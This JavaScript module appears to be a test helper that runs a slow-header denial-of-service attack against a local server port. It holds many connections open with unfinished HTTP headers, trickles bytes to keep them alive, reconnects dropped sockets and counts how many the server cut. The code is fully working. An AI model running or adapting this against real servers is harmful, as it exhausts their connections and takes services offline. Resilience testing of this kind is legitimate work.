// Clients whose heads never end: `fork(attacker.mjs, [PORT, COUNT])`. Says when all are there, and when told to end how many were cut.
import { open } from './clients.mjs'

const BYTE_EVERY_MS = 1000

class Attack {
  #port
  #count
  #sockets = new Set()
  #timer
  #over = false
  #cut = 0

  constructor(port, count) {
    this.#port = port
    this.#count = count
  }

  async begin() {
    let next = 0
    const work = async () => {
      while (next < this.#count) await this.#add(next++)
    }
    await Promise.all(Array.from({ length: 100 }, work))
    this.#timer = setInterval(() => {
      for (const socket of this.#sockets) socket.write('x')
    }, BYTE_EVERY_MS)
  }

  async #add(number) {
    const socket = await open(this.#port, number)
    this.#sockets.add(socket)
    socket.write('GET /services/echo/ HTTP/1.1\r\nHost: slow\r\nX: ')
    socket.resume().once('close', () => {
      this.#sockets.delete(socket)
      if (this.#over) return
      this.#cut++
      this.#add(number).catch(() => {})
    })
  }

  /** @returns how many were cut */
  end() {
    this.#over = true
    clearInterval(this.#timer)
    for (const socket of this.#sockets) socket.destroy()
    return this.#cut
  }
}

const [port, count] = process.argv.slice(2).map(Number)
const attack = new Attack(port, count)
process.once('message', () => process.send(attack.end()))
await attack.begin()
process.send('ready')
